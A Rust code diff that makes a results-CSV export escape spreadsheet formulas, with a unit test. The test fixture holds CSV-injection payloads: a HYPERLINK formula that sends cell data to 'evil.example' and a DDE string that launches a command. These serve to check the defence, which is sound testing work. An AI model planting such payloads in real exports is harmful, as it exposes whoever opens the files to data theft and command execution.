@@ -772,8 +772,9 @@ pub fn results_csv(results: &[Value]) -> Result<Vec<u8>> {
         let mut w = csv::Writer::from_writer(&mut out);
         let csv_err = |e: csv::Error| Error::Internal(format!("writing CSV: {e}"));
         w.write_record(CSV_HEADER).map_err(csv_err)?;
+        // Every text cell is defused: names come from imports and forms.
         let s = |v: &Value| match v {
-            Value::String(s) => s.clone(),
+            Value::String(s) => crate::spreadsheet::cell(s).into_owned(),
             Value::Null => String::new(),
             other => other.to_string(),
         };
@@ -1040,4 +1041,38 @@ async fn outcome_of_target(
             .read(move |c| target_outcome(c, &user, target_id))
             .await?,
     ))
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    #[test]
+    fn the_results_csv_defuses_names_that_would_run_as_formulas() {
+        let hostile = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")";
+        let result = json!({
+            "plan_number": "+cmd|' /C calc'!A0", "plan_name": "2026年度计划",
+            "task_number": "-1+1", "task_name": "@SUM(1+1)", "inspection_type": "定向",
+            "agency": "某区市场监督管理局", "target_name": hostile,
+            "uscc": "91330100MA2B000001", "completed_on": "2026-11-20",
+            "result": "未发现问题", "version": 1,
+            "items": [{"name": "=1+1", "result": "未发现问题"}],
+        });
+        let bytes = super::results_csv(&[result]).unwrap();
+        let text = String::from_utf8(bytes).unwrap();
+        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+        let row = reader.records().next().unwrap().unwrap();
+        assert_eq!(&row[0], "'+cmd|' /C calc'!A0");
+        assert_eq!(&row[2], "'-1+1");
+        assert_eq!(&row[3], "'@SUM(1+1)");
+        assert_eq!(&row[6], format!("'{hostile}"));
+        assert_eq!(&row[7], "91330100MA2B000001");
+        assert_eq!(&row[10], "'=1+1：未发现问题");
+        for cell in row.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@']),
+                "a cell starts a formula: {cell:?}"
+            );
+        }
+    }
 }
